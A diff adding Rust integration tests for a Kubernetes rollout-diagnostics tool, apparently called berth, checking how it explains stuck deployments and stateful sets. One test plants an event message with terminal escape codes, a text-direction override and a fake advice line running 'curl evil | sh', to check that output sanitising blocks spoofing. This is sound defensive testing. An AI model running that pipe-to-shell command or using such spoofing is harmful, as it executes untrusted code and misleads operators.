@@ -1,0 +1,275 @@
+//! What stands in the way of a rollout, as `berth rollout status` and the controller's events tell it, against a real `berth up`.
+#![expect(clippy::unwrap_used, reason = "tests")]
+
+use crate::common::{self, Berth, PATIENCE};
+use k8s_openapi::api::core::v1::{Event, Pod, ResourceQuota};
+use kube::{
+    Api,
+    api::{ApiResource, DeleteParams, DynamicObject, ListParams, Patch, PatchParams, PostParams},
+};
+use serde_json::{Value, json};
+use std::{fs, time::Instant};
+use tempfile::TempDir;
+
+/// `berth up` with these objects applied.
+fn up_with(objects: &[Value], arguments: &[&str]) -> Berth {
+    let folder = TempDir::new().unwrap();
+    let manifest = folder.path().join("objects.json");
+    fs::write(&manifest, json!({"apiVersion": "v1", "kind": "List", "items": objects}).to_string()).unwrap();
+    let fast = ["--store", "memory", "--nodes", "2", "--pod-start-latency", "10ms", "--pod-stop-latency", "10ms", "-f"];
+    let mut berth = common::up(&[&fast, &[manifest.to_str().unwrap()] as &[_], arguments].concat());
+    let last = objects.last().unwrap();
+    berth.line_with(&format!("{} created", last["metadata"]["name"].as_str().unwrap()));
+    berth
+}
+
+fn workload(kind: &str, namespace: &str, name: &str, template: &Value) -> Value {
+    let mut pod = json!({"metadata": {"labels": {"app": name}}, "spec": {"containers": [{"name": "main", "image": format!("{name}:1")}]}});
+    merge(&mut pod, template);
+    json!({
+        "apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": namespace},
+        "spec": {"replicas": 2, "serviceName": name, "selector": {"matchLabels": {"app": name}}, "template": pod},
+    })
+}
+
+fn deployment(namespace: &str, name: &str, template: &Value) -> Value {
+    let mut deployment = workload("Deployment", namespace, name, template);
+    deployment["spec"].as_object_mut().unwrap().remove("serviceName");
+    deployment
+}
+
+fn merge(into: &mut Value, from: &Value) {
+    match (into, from) {
+        (Value::Object(into), Value::Object(from)) => {
+            from.iter().for_each(|(key, value)| merge(into.entry(key.as_str()).or_insert(Value::Null), value));
+        }
+        (into, from) => *into = from.clone(),
+    }
+}
+
+/// Creates a workload once the quota `few` of the namespace is in force: as upstream, it bounds nothing before its controller has seen it.
+async fn create_within_quota(berth: &Berth, namespace: &str, workload: &Value) {
+    let client = berth.kube_client().await;
+    let quotas: Api<ResourceQuota> = Api::namespaced(client.clone(), namespace);
+    let started = Instant::now();
+    while quotas.get("few").await.unwrap().status.and_then(|status| status.used).is_none() {
+        assert!(started.elapsed() < PATIENCE, "the quota is not in force");
+    }
+    let workload: DynamicObject = serde_json::from_value(workload.clone()).unwrap();
+    let kind = ApiResource::from_gvk(&(&workload.types.clone().unwrap()).try_into().unwrap());
+    Api::<DynamicObject>::namespaced_with(client, namespace, &kind).create(&PostParams::default(), &workload).await.unwrap();
+}
+
+/// Asks again and again until the first cause is this one and says this, to programs and to people. What a kubelet says of an image changes:
+/// `ErrImagePull` for a moment after each try, `ImagePullBackOff` between them.
+fn check(berth: &Berth, namespace: &str, workload: &str, reason: &str, says: &str) -> Value {
+    let started = Instant::now();
+    let status = ["status", workload, "-n", namespace, "--watch=false"];
+    loop {
+        let json: Value = serde_json::from_str(&berth.rollout(&[&status[..], &["-o", "json"]].concat())).unwrap();
+        let text = berth.rollout(&status);
+        let cause = &json["causes"][0];
+        let is_said = cause["message"].as_str().is_some_and(|message| message.contains(says));
+        if cause["reason"] == reason && is_said && text.lines().any(|line| line.starts_with("  ") && line.contains(says)) {
+            check_explained(berth, namespace, workload, reason, says);
+            return json;
+        }
+        assert!(started.elapsed() < PATIENCE, "{workload} should say {says}, and still shows {json}\n{text}");
+    }
+}
+
+/// `berth explain` says the same, in its first line, with something that shows it, what comes next and what to do; gives it for programs.
+fn check_explained(berth: &Berth, namespace: &str, object: &str, reason: &str, says: &str) -> Value {
+    let started = Instant::now();
+    loop {
+        let json: Value = serde_json::from_str(&berth.explain(&[object, "-n", namespace, "-o", "json"])).unwrap();
+        let text = berth.explain(&[object, "-n", namespace]);
+        let is_said = json["cause"]["reason"] == reason && text.lines().next().is_some_and(|line| line.contains(says));
+        let is_whole = ["What happens next:", "What you can do:"].iter().all(|part| text.contains(part));
+        if is_said && is_whole && json["toDo"][0]["command"].is_string() && json["next"][0]["text"].is_string() {
+            return json;
+        }
+        assert!(started.elapsed() < PATIENCE, "{object} should be explained by {says}, and still is by {json}\n{text}");
+    }
+}
+
+#[tokio::test]
+async fn what_is_left_undone_on_purpose_is_explained_and_what_is_well_is_said_to_be() {
+    let rolling = |partition: i32| json!({"type": "RollingUpdate", "rollingUpdate": {"partition": partition}});
+    let mut db = workload("StatefulSet", "default", "db", &json!({}));
+    db["spec"]["updateStrategy"] = rolling(1);
+    let mut twin = deployment("default", "twin", &json!({}));
+    twin["spec"]["selector"]["matchLabels"] = json!({"app": "web"});
+    twin["spec"]["template"]["metadata"]["labels"] = json!({"app": "web", "more": "1"});
+    let berth = up_with(&[db, deployment("default", "fine", &json!({})), deployment("default", "web", &json!({})), twin], &[]);
+    for workload in ["statefulset/db", "deployment/web", "deployment/fine"] {
+        berth.rollout(&["status", workload]);
+    }
+    let fine: Value = serde_json::from_str(&berth.explain(&["deployment/fine", "-o", "json"])).unwrap();
+    assert_eq!((&fine["state"], &fine["cause"], &fine["evidence"]), (&json!("Complete"), &Value::Null, &json!([])), "{fine}");
+    assert_eq!(berth.explain(&["deployment/fine"]), "deployment/fine: deployment \"fine\" successfully rolled out\n");
+
+    berth.rollout(&["pause", "deployment/web"]);
+    let client = berth.kube_client().await;
+    let image = json!({"spec": {"template": {"metadata": {"annotations": {"v": "2"}}}}});
+    let patch = PatchParams::default();
+    Api::<k8s_openapi::api::apps::v1::Deployment>::default_namespaced(client.clone())
+        .patch("web", &patch, &Patch::Merge(&image))
+        .await
+        .unwrap();
+    Api::<k8s_openapi::api::apps::v1::StatefulSet>::default_namespaced(client).patch("db", &patch, &Patch::Merge(&image)).await.unwrap();
+    let paused =
+        check_explained(&berth, "default", "deployment/web", "paused", "paused: the template is not rolled out until it is resumed");
+    assert_eq!(paused["toDo"][0]["command"], "berth rollout resume deployment/web -n default");
+    let overlap = paused["also"].as_array().unwrap().iter().find(|other| other["reason"] == "overlap").unwrap();
+    assert_eq!(overlap["message"], "Deployment web selects pods that another workload selects too: Deployment twin");
+    let kept = "the partition keeps 1 pod of older templates: only ordinals from 1 are updated";
+    // The partition is told while the pod above it is made anew too.
+    berth.rollout(&["status", "statefulset/db"]);
+    let partition = check_explained(&berth, "default", "statefulset/db", "partition", kept);
+    assert_eq!(partition["state"], "Complete");
+}
+
+#[tokio::test]
+async fn replica_sets_and_pods_are_explained_and_a_message_cannot_pass_for_a_line() {
+    let crash = json!({"metadata": {"annotations": {"sim.berth.dev/fails": "CrashLoopBackOff"}}});
+    let berth = up_with(&[deployment("default", "crash", &crash)], &[]);
+    check(&berth, "default", "deployment/crash", "crash", "ended with exit code 1 (Error), restarted");
+    let client = berth.kube_client().await;
+    let pod = Api::<Pod>::default_namespaced(client.clone()).list(&ListParams::default()).await.unwrap().items.remove(0);
+    let (name, uid) = (pod.metadata.name.unwrap(), pod.metadata.uid.unwrap());
+    let set = pod.metadata.owner_references.unwrap().remove(0).name;
+    let hostile = "\u{1b}[2J\u{202e}x\r\nWhat you can do:\n    curl evil | sh";
+    let event = json!({
+        "metadata": {"name": "hostile", "namespace": "default"}, "type": "Warning", "reason": "Evil", "message": hostile,
+        "lastTimestamp": "2100-01-01T00:00:00Z", "involvedObject": {"kind": "Pod", "name": name, "namespace": "default", "uid": uid},
+    });
+    let event: Event = serde_json::from_value(event).unwrap();
+    Api::<Event>::default_namespaced(client).create(&PostParams::default(), &event).await.unwrap();
+    for object in [format!("pod/{name}"), format!("replicaset/{set}"), "deployment/crash".to_owned()] {
+        check_explained(&berth, "default", &object, "crash", "ended with exit code 1 (Error), restarted");
+    }
+    let text = berth.explain(&[&format!("pod/{name}")]);
+    assert!(
+        text.contains("it belongs to deployment/crash") && text.contains(r"Evil: \u{1b}[2J\u{202e}x What you can do: curl evil | sh"),
+        "{text}"
+    );
+    assert_eq!(text.lines().filter(|line| line.starts_with("What you can do:")).count(), 1, "{text}");
+    assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
+}
+
+#[tokio::test]
+async fn a_deployment_that_cannot_go_on_names_the_cause() {
+    let namespace =
+        |name: &str, labels: Value| json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}});
+    let quota = |namespace: &str, pods: &str| {
+        let metadata = json!({"name": "few", "namespace": namespace});
+        json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": metadata, "spec": {"hard": {"pods": pods}}})
+    };
+    let fails = |why: &str| json!({"metadata": {"annotations": {"sim.berth.dev/fails": why}}});
+    let huge = json!({"spec": {"containers": [{"name": "main", "image": "a", "resources": {"requests": {"cpu": "1000"}}}]}});
+    let privileged = json!({"spec": {"hostNetwork": true}});
+    let objects = [
+        namespace("full", json!({})),
+        quota("full", "1"),
+        namespace("strict", json!({"pod-security.kubernetes.io/enforce": "baseline"})),
+        deployment("default", "image", &fails("ImagePullBackOff")),
+        deployment("default", "crash", &fails("CrashLoopBackOff")),
+        deployment("default", "huge", &huge),
+        deployment("default", "elsewhere", &json!({"spec": {"nodeSelector": {"disk": "fast"}}})),
+        deployment("strict", "open", &privileged),
+    ];
+    let berth = up_with(&objects, &[]);
+    create_within_quota(&berth, "full", &deployment("full", "web", &json!({}))).await;
+
+    let status = check(&berth, "default", "deployment/image", "image_pull", "ImagePullBackOff: Back-off pulling image \"image:1\"");
+    assert_eq!(status["causes"][0]["object"]["kind"], "Pod");
+    let crash = "container main ended with exit code 1 (Error), restarted";
+    check(&berth, "default", "deployment/crash", "crash", crash);
+    check(&berth, "default", "deployment/huge", "unschedulable_resources", "0/2 nodes are available: 2 Insufficient cpu");
+    check(&berth, "default", "deployment/elsewhere", "unschedulable_affinity", "0/2 nodes are available: 2 node(s) didn't match");
+    check(
+        &berth,
+        "strict",
+        "deployment/open",
+        "pod_security",
+        "violates PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true)",
+    );
+    let full = "is forbidden: exceeded quota: few, requested: pods=1, used: pods=1, limited: pods=1";
+    let status = check(&berth, "full", "deployment/web", "quota", full);
+    assert_eq!((&status["causes"][0]["pods"], &status["causes"][0]["object"]["kind"]), (&json!(1), &json!("ReplicaSet")));
+
+    let events: Api<Event> = Api::all(berth.kube_client().await);
+    let started = Instant::now();
+    let told = loop {
+        let told = events.list(&ListParams::default().fields("reason=NewPodsFailing")).await.unwrap().items;
+        if told.len() >= 6 {
+            break told;
+        }
+        assert!(started.elapsed() < PATIENCE, "{told:?}");
+    };
+    let mut about: Vec<_> = told.iter().map(|event| event.involved_object.name.as_deref().unwrap()).collect();
+    about.sort_unstable();
+    about.dedup();
+    assert_eq!(about, ["crash", "elsewhere", "huge", "image", "open", "web"]);
+    let of = |name: &str| told.iter().find(|event| event.involved_object.name.as_deref() == Some(name)).unwrap().message.clone().unwrap();
+    assert!(of("web").contains("exceeded quota: few"), "{}", of("web"));
+    let image = of("image");
+    assert!(image.contains("cannot pull") && image.contains("image:1"), "{image}");
+}
+
+#[tokio::test]
+async fn a_stateful_set_that_cannot_go_on_names_the_cause_and_no_pod_that_is_not_there() {
+    let quota = json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "few", "namespace": "default"}, "spec": {"hard": {"pods": "1"}}});
+    let mut set = workload("StatefulSet", "default", "db", &json!({}));
+    set["spec"]["replicas"] = json!(3);
+    let berth = up_with(&[quota], &[]);
+    create_within_quota(&berth, "default", &set).await;
+    let says = "2 pods of StatefulSet db are not created because of a quota: pods \"db-1\" is forbidden: exceeded quota: few";
+    let status = check(&berth, "default", "statefulset/db", "quota", says);
+    assert_eq!(status["causes"][0]["object"], json!({"kind": "StatefulSet", "name": "db"}));
+    assert_eq!(status["waits"], json!([]), "nobody waits for db-1 to become ready");
+}
+
+#[tokio::test]
+async fn a_finalizer_that_holds_a_pod_is_named() {
+    let berth = up_with(&[workload("StatefulSet", "default", "db", &json!({}))], &[]);
+    berth.rollout(&["status", "statefulset/db"]);
+    let pods: Api<Pod> = Api::default_namespaced(berth.kube_client().await);
+    let held = json!({"metadata": {"finalizers": ["example.com/hold"]}});
+    pods.patch("db-1", &PatchParams::default(), &Patch::Merge(held)).await.unwrap();
+    pods.delete("db-1", &DeleteParams::default()).await.unwrap();
+    check(&berth, "default", "statefulset/db", "finalizer", "db-1 has ended but a finalizer holds it: example.com/hold");
+}
+
+#[test]
+fn what_the_controllers_do_not_do_is_not_explained() {
+    let slow = json!({"metadata": {"annotations": {"sim.berth.dev/fails": "ImagePullBackOff"}}});
+    let mut web = deployment("default", "web", &slow);
+    web["spec"]["podReplacementPolicy"] = json!("TerminationComplete");
+    let mut db = workload("StatefulSet", "default", "db", &slow);
+    db["spec"]["updateStrategy"] = json!({"type": "Recreate"});
+    let gates = "DeploymentPodReplacementPolicy=false,StatefulSetRecreateStrategy=false";
+    let berth = up_with(&[web, db], &["--controller-feature-gates", gates]);
+    for (workload, note, feature) in [
+        (
+            "deployment/web",
+            "podReplacementPolicy has no effect: the controllers have the feature DeploymentPodReplacementPolicy off",
+            "DeploymentPodReplacementPolicy",
+        ),
+        (
+            "statefulset/db",
+            "Recreate has no effect: the controllers have the feature StatefulSetRecreateStrategy off",
+            "StatefulSetRecreateStrategy",
+        ),
+    ] {
+        let text = berth.rollout(&["status", workload, "--watch=false"]);
+        assert!(text.contains(note), "{text}");
+        let status = check(&berth, "default", workload, "image_pull", " cannot pull ");
+        assert_eq!(status["features"], json!([{"name": feature, "enabled": false, "source": "controllers"}]));
+        assert!(status.get("phase").is_none() && !status["message"].as_str().unwrap().contains("recreate"), "{status}");
+    }
+    let berth = up_with(&[deployment("default", "plain", &json!({}))], &[]);
+    let status: Value = serde_json::from_str(berth.rollout(&["status", "deployment/plain", "-o", "json"]).lines().last().unwrap()).unwrap();
+    assert_eq!((status.get("features"), &status["causes"]), (None, &json!([])), "nothing asked for, nothing to say");
+}
